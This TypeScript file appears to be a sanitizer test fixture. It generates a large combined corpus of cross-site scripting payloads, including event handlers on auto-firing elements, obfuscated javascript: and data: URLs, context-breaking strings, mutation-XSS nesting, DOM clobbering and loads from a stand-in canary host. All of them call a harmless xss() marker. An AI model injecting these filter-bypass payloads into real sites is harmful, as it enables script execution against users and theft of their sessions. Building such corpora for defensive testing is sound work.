import { isFull } from './full.ts';
import { payloads } from './xss-payloads.ts';

/**
 * What public collections of cross-site scripting try, combined: each handler on each kind of element, each spelling of a
 * dangerous address in each place for one, each way out of a context. All of them call `xss()`.
 */

/** Elements that fire by themselves, with what makes them. */
const firing = [
  '<img src=x HANDLER>',
  '<image src=x HANDLER>',
  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" HANDLER>',
  '<svg HANDLER><animate HANDLER attributeName=x dur=1s></svg>',
  '<svg><image href=x HANDLER></image></svg>',
  '<math HANDLER tabindex=1 autofocus>x</math>',
  '<video src=x HANDLER></video>',
  '<audio src=x HANDLER><source src=x HANDLER></audio>',
  '<iframe HANDLER></iframe>',
  '<object data=x HANDLER></object>',
  '<embed src=x HANDLER>',
  '<link rel=stylesheet href=x HANDLER>',
  '<script src=x HANDLER></script>',
  '<style HANDLER>a{}</style>',
  '<body HANDLER>',
  '<input autofocus HANDLER>',
  '<select autofocus HANDLER><option>x</select>',
  '<details open HANDLER><summary>x</summary></details>',
  '<a href=# autofocus HANDLER>x</a>',
  '<p tabindex=0 autofocus contenteditable HANDLER style="animation:x 1s;transition:all 1s">x</p>',
  '<x-y tabindex=0 autofocus HANDLER>x</x-y>',
  '<marquee HANDLER>x</marquee>',
  '<dialog open HANDLER>x</dialog>',
  '<table HANDLER><td HANDLER>x</table>',
];
const handlers = [
  'onerror=xss()',
  'onload=xss()',
  'onfocus=xss() onfocusin=xss()',
  'ontoggle="xss()" onbeforetoggle=\'xss()\'',
  'onclick=xss() onmouseover=xss() onpointerenter=xss() onpointerover=xss()',
  'onanimationstart=xss() ontransitionrun=xss() onbegin=xss()',
  'ONERROR=xss() OnLoad=xss()',
  '/onerror=xss()/onload=xss()/',
  'onerror\t=\nxss()\fonload\r=\r"xss()"',
  'onerror="&#x78;&#115;s&lpar;&rpar;" onload=xss&#40&#41',
  'onerror=\u0000xss() on\u0000load=xss() \u000bonfocus=xss()',
  'x="" onerror="window[`xs`+`s`]()" onload="self[\'\\x78ss\']()"',
];

/** One address that runs, in the spellings that filters miss. */
export const addresses = [
  'javascript:xss()',
  'JaVaScRiPt:xss()',
  ' javascript:xss()',
  '\tjavascript:xss()',
  '\u0001javascript:xss()',
  '\u0000javascript:xss()',
  '\u00a0javascript:xss()',
  'java\tscript:xss()',
  'java\nscript:xss()',
  'java\r\nscript\t:xss()',
  'javascript&colon;xss()',
  'javascript&#58;xss()',
  'javascript&#x3a;xss()',
  'javascript&#0000058xss()',
  '&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#120&#115&#115&#40&#41',
  'java&Tab;script&colon;xss&lpar;&rpar;',
  'java&NewLine;script:xss()',
  'javascript://%0axss()',
  'javascript://example.com/%0d%0axss()//',
  'javascript:/*--></title></style></textarea></script>*/xss()',
  'javascript:%78%73%73%28%29',
  'javascript:"<script>xss()</script>"',
  'vbscript:xss()',
  'data:text/html,<script>(opener||parent).xss()</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzKCk8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.xss()"/>',
  'data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">parent.xss()</script>',
  'data:text/javascript,xss()',
  'DATA:,xss()',
  'blob:null/xss',
  'filesystem:https://canary.example/temporary/xss',
  'view-source:javascript:xss()',
  'jar:javascript:xss()!/x',
  '//canary.example/script',
  'https:canary.example/script',
  '\\\\canary.example\\script',
  // Where an address is made by cutting another one: the user before the host is the attacker's. `page.invalid` is the base of ours.
  ...['https://', 'HTTPS:', 'https:\\\\', 'https:/', '//', ' https://\t'].flatMap((start) =>
    ['@page.invalid/', ':@page.invalid', '@PAGE.invalid:443?', '@page.invalid\\#'].map(
      (end) => `${start}${'a'.repeat(20 - start.trim().length)}javascript:xss()%2F%2F${end}`,
    ),
  ),
  'https://page.invalid//canary.example/script',
  'https://page.invalid/javascript:xss()',
  'data:image/SVG+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.xss()"/>',
  'data:image/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">parent.xss()</script>',
  'data:image/png+xml;base64,PHN2Zy8+',
];
/** Places for an address. `Q` stands for the quoted address. */
const places = [
  '<a href=Q>x</a>',
  '<a href=# xlink:href=Q ping=Q>x</a>',
  '<map name=m><area href=Q shape=default></map>',
  '<svg><a href=Q xlink:href=Q><text y=20>x</text></a><script href=Q></script></svg>',
  '<svg><use href=Q></use><animate attributeName=href values=Q /></svg>',
  '<math href=Q xlink:href=Q>x</math>',
  '<iframe src=Q></iframe><frame src=Q>',
  '<object data=Q></object><embed src=Q>',
  '<form action=Q><input type=submit><button formaction=Q>x</button></form>',
  '<script src=Q></script><script type=module src=Q></script>',
  '<link rel=stylesheet href=Q><link rel=import href=Q><link rel=modulepreload href=Q>',
  '<meta http-equiv=refresh content="0; url=RAW"><base href=Q>',
];

/** Ways out of what a payload may stand in: text elements, comments, attributes, a shadow root, the JSON of a state. */
const exits = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '-->',
  '--!>',
  ']]>',
  '?>',
  '</script>',
  '</SCRIPT >',
  '</script/x>',
  '<!--<script>',
  '</style>',
  '</title>',
  '</textarea>',
  '</noscript>',
  '</template>',
  '</template></trade-blog-feed></main>',
  '</svg></math>',
  '"}]}</script>',
  '\\"}]}</script>',
  '\u2028',
  '\u2029',
  `{{company}}\${xss()}`,
  '\u0000">',
  '\ud800">',
  '\ufeff">',
];
const entries = ['<script>xss()</script>', '<img src=x onerror=xss()>', '<svg/onload=xss()>', ';xss()//'];

/** Containers whose content is read in another way the second time, around something that fires. */
const containers = [
  'style title textarea xmp noscript noembed noframes iframe template select option svg math table form details',
  'svg>style svg>title svg>desc svg>foreignObject math>mtext math>mi math>annotation-xml svg>svg table>caption',
  'select>template form>form math>mtext>table>mglyph>style svg>foreignObject>math>mi math>annotation-xml>svg>style',
]
  .join(' ')
  .split(' ');
const inner = [
  '<img src=x onerror=xss()>',
  '<a title="CLOSE<img src=x onerror=xss()>">x</a>',
  '<!--CLOSE<img src=x onerror=xss()>-->',
  '<![CDATA[CLOSE<img src=x onerror=xss()>]]>',
  '&lt;img src=x onerror=xss()&gt;',
];

const others = [
  '<div><template shadowrootmode=open><script>xss()</script><img src=x onerror=xss()></template></div>',
  '<p><template shadowrootmode=closed shadowrootclonable><iframe srcdoc="<script>parent.xss()</script>"></template></p>',
  '<template><template shadowrootmode=open><svg onload=xss()></template></template>',
  '<iframe srcdoc="&lt;script&gt;parent.xss()&lt;/script&gt;"></iframe>',
  '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<img src=x onerror=parent.xss()>"></iframe>',
  '<style>@import "https://canary.example/style";</style><style>@import url(//canary.example/style)</style>',
  '<style>@font-face{font-family:x;src:url(https://canary.example/font)}*{font-family:x!important}</style>',
  '<p style="background:url(https://canary.example/style)">x</p>',
  '<svg><style>*{background:url(https://canary.example/style)}</style></svg>',
  '<link rel=stylesheet href=https://canary.example/style><link rel=prefetch href=https://canary.example/style>',
  '<link rel=preload as=script href=https://canary.example/script><script src=https://canary.example/script></script>',
  '<script type=speculationrules>{"prerender":[{"urls":["https://canary.example/script"]}]}</script>',
  '<script type=importmap>{"imports":{"react":"https://canary.example/script"}}</script>',
  '<base href=https://canary.example/><base target=_blank>',
  '<meta http-equiv=refresh content="0;url=https://canary.example/page">',
  '<meta http-equiv=Set-Cookie content="x=y"><meta http-equiv=Content-Security-Policy content="default-src *">',
  '<form id=location action=https://canary.example/><input name=href><button autofocus>x</button></form>',
  '<form action=https://canary.example/ target=_top><input type=image src=x onerror=xss()></form>',
  '<a id=trustedTypes></a><a id=trustedTypes name=createPolicy href=x></a><img name=customElements>',
  '<img name=documentElement><form name=body></form><form name=head></form><embed name=adoptNode>',
  '<form name=shadowRoot><input name=parentNode><input name=attributes><input name=textContent></form>',
  '<a href=x id=__proto__></a><a id=constructor></a><input name=__proto__><input name=hasOwnProperty>',
  '<object id=React><object id=React name=createElement data=x></object></object>',
  '<portal src=https://canary.example/page></portal><fencedframe src=https://canary.example/page></fencedframe>',
  '<video poster=javascript:xss() src=https://canary.example/media autoplay><track src=https://canary.example/media></video>',
  '<button popovertarget=p popovertargetaction=show autofocus>x</button><p popover id=p onbeforetoggle=xss()>x</p>',
  '<button commandfor=d command=show-modal onfocus=xss() autofocus>x</button><dialog id=d oncommand=xss()>x</dialog>',
  '<input type=hidden oncontentvisibilityautostatechange=xss() style=content-visibility:auto>',
  '<p hidden=until-found onbeforematch=xss()>x</p><xss onscrollend=xss() style="overflow:scroll">x</xss>',
  '<a onclick=xss()//href=x>x</a><a/href="javascript:xss()"/onfocus="xss()"/autofocus>x</a>',
  '<<img src=x onerror=xss()>><img src=x onerror=xss()//',
  '<img src=x onerror=xss() <img src=x onerror=xss()',
  '<ScRiPt>xss()</sCrIpT><script\u0020>xss()</script\t><script/>xss()</script>',
  '+ADw-script+AD4-xss()+ADw-/script+AD4-',
  '\u00bcscript\u00bexss()\u00bc/script\u00be\uff1cscript\uff1exss()\uff1c/script\uff1e',
  '%3Cscript%3Exss()%3C/script%3E&lt;script&gt;xss()&lt;/script&gt;&amp;lt;script&amp;gt;xss()',
  '<script>/*\u2028*/xss()/*\u2029*/</script><script>\ufeffxss()</script>',
  '\r\nContent-Type: text/html\r\n\r\n<script>xss()</script>',
];

const quoted = (address: string): string => `"${address.replaceAll('"', '&quot;')}"`;

function nested(container: string, content: string): string {
  const names = container.split('>');
  const close = [...names]
    .reverse()
    .map((name) => `</${name}>`)
    .join('');
  const open = names.map((name) => `<${name}>`).join('');
  return open + content.replaceAll('CLOSE', close) + close;
}

const all: readonly string[] = [
  ...payloads,
  ...firing.flatMap((element) => handlers.map((handler) => element.replaceAll('HANDLER', handler))),
  ...places.flatMap((place) =>
    addresses.map((address) => place.replaceAll('Q', quoted(address)).replaceAll('RAW', address)),
  ),
  ...exits.flatMap((exit) => entries.map((entry) => exit + entry)),
  ...containers.flatMap((container) => inner.map((content) => nested(container, content))),
  ...others,
];

/** A short run tries every third, of all kinds. */
export const corpus = isFull ? all : all.filter((_, index) => index % 3 === 0);
